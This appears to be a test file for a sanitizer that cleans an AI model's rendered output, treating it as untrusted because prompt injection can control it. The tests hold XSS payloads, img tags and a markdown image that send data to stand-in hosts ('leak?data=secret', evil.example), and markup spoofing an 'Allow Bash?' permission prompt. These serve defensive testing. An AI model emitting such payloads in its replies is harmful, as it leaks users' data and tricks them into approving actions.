// The sanitizer between assistant output (untrusted: a prompt injection can write it) and the page.
import { describe, expect, it } from 'vitest';
import { loadHighlighter } from './highlighter';
import { isLoadableImage, ownClasses, renderMarkdown, sanitize } from './markdown';

function dom(html: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
}

describe('sanitize', () => {
  it('drops style attributes, so nothing can be positioned over the app', () => {
    const out = dom(sanitize('<div style="position:fixed;inset:0;z-index:99999">cover</div><p style="color:red">x</p>'));
    expect(out.querySelectorAll('[style]')).toHaveLength(0);
    expect(out.textContent).toBe('coverx');
  });

  it('keeps only its own classes: the app’s CSS classes cannot be borrowed', () => {
    const out = dom(
      sanitize(
        '<div class="scrim sidebar open permission-card">a</div><span class="hljs-keyword jump-btn">b</span><i class="sr-only">c</i>',
      ),
    );
    expect(out.querySelector('div')?.hasAttribute('class')).toBe(false);
    expect(out.querySelector('span')?.getAttribute('class')).toBe('hljs-keyword');
    expect(out.querySelector('i')?.hasAttribute('class')).toBe(false);
    expect(ownClasses('code-block copy-btn language-ts hljs evil')).toBe('code-block copy-btn language-ts hljs');
  });

  it('drops ids, names, roles and aria (no clashes with the app’s own, no fake regions)', () => {
    const out = dom(
      sanitize(
        '<section id="composer-hint" role="region" aria-label="Allow Bash?" name="x" aria-owns="sessions-nav" tabindex="1" accesskey="a">z</section>',
      ),
    );
    const el = out.querySelector('section');
    expect(el?.getAttributeNames()).toEqual([]);
  });

  it('drops elements that draw in their own layer or load media', () => {
    const out = dom(
      sanitize(
        '<dialog open>d</dialog><div popover>p</div><video src="http://x/v.mp4" poster="http://x/p.png"></video>' +
          '<audio src="http://x/a.mp3"></audio><picture><source srcset="http://x/i.png"></picture>' +
          '<svg><image href="http://x/i.png"/></svg><table background="http://x/bg.png"><tr><td>t</td></tr></table>' +
          '<style>*{display:none}</style><form action="http://x"><input></form>',
      ),
    );
    expect(
      out.querySelectorAll('dialog, video, audio, picture, source, svg, image, style, form, input, [popover], [background]'),
    ).toHaveLength(0);
    expect(out.querySelector('td')?.textContent).toBe('t');
  });

  it('shows a remote image as a link with its alt text, never as an <img>', () => {
    const out = dom(renderMarkdown('look: ![the chart](http://127.0.0.1:9/leak?data=secret) done'));
    expect(out.querySelectorAll('img')).toHaveLength(0);
    const a = out.querySelector('a.remote-image');
    expect(a?.textContent).toBe('the chart');
    expect(a?.getAttribute('href')).toBe('http://127.0.0.1:9/leak?data=secret');
    expect(a?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(a?.getAttribute('target')).toBe('_blank');
  });

  it('raw <img> tags are treated the same, with or without alt', () => {
    const out = dom(
      sanitize('<img src="https://evil.example/x.gif"><img src="//evil.example/y.gif" alt="y" srcset="https://evil.example/z 2x">'),
    );
    expect(out.querySelectorAll('img')).toHaveLength(0);
    const links = [...out.querySelectorAll('a.remote-image')];
    expect(links.map((a) => a.textContent)).toEqual(['https://evil.example/x.gif', 'y']);
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://evil.example/x.gif',
      `${window.location.protocol}//evil.example/y.gif`,
    ]);
  });

  it('an image URL that is not http(s) becomes plain text, not a link', () => {
    const out = dom(sanitize('<img src="javascript:alert(1)" alt="js">'));
    expect(out.querySelectorAll('img, a')).toHaveLength(0);
    expect(out.querySelector('.remote-image')?.textContent).toBe('js');
  });

  it('keeps same-origin and data: images', () => {
    const origin = window.location.origin;
    const data = 'data:image/png;base64,iVBORw0KGgo=';
    const out = dom(sanitize(`<img src="/icon.svg" alt="a"><img src="${origin}/b.png" alt="b"><img src="${data}" alt="c">`));
    expect([...out.querySelectorAll('img')].map((i) => i.getAttribute('alt'))).toEqual(['a', 'b', 'c']);
    expect(isLoadableImage('http://elsewhere.test/x.png', 'http://localhost:3000')).toBe(false);
    expect(isLoadableImage('http://localhost:3000/x.png', 'http://localhost:3000')).toBe(true);
    expect(isLoadableImage('data:text/html,<b>x</b>', 'http://localhost:3000')).toBe(false);
  });

  it('still runs no script and keeps the code block with its Copy button', async () => {
    await loadHighlighter();
    const out = dom(renderMarkdown('<img src=x onerror="alert(1)"><script>alert(2)</script>\n\n```js\nconst a = 1;\n```'));
    expect(out.querySelectorAll('script, [onerror]')).toHaveLength(0);
    expect(out.querySelector('.code-block .code-head .copy-btn[data-copy]')?.textContent).toBe('Copy');
    expect(out.querySelector('pre code.hljs.language-js .hljs-keyword')?.textContent).toBe('const');
  });

  it('links open in a new tab without the opener or a Referer', () => {
    const out = dom(renderMarkdown('[docs](https://example.com/a) <a href="https://example.com/b" target="_self" ping="https://x">b</a>'));
    for (const a of out.querySelectorAll('a')) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
      expect(a.hasAttribute('ping')).toBe(false);
    }
  });
});
